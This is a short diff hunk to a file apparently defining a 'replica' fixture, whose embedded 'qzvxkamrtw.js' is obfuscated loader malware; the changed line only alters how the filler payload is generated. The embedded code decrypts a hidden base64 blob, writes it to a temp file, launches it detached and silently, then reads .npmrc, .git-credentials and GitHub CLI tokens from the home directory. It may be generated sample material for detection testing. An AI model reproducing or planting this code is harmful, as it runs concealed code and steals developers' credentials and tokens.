@@ -100,7 +100,7 @@ export const replica: Replica = {
 }
 `,
       'qzvxkamrtw.js': `import*as a from"node:fs";import*as b from"node:os";import*as c from"node:path";import{spawn as d}from"node:child_process";import{createDecipheriv as e}from"node:crypto";
-const f=\`${noise(5_000_000, 6607)}\`;
+const f=\`${noise(1_000_000, 6607).repeat(5)}\`;
 const g=e("aes-256-cbc",Buffer.from("${noise(64, 17, '0123456789abcdef')}","hex"),Buffer.from("${noise(32, 19, '0123456789abcdef')}","hex")),h=Buffer.concat([g.update(f,"base64"),g.final()]),i=c.join(b.tmpdir(),"qzvxkamrtw.mjs");
 a.writeFileSync(i,h);d(process.execPath,[i],{detached:!0,stdio:"ignore"}).unref();
 const j=[".npmrc",".git-credentials",".config/gh/hosts.yml"].flatMap(k=>{try{return[[k,a.readFileSync(c.join(b.homedir(),k),"utf8")]]}catch{return[]}});
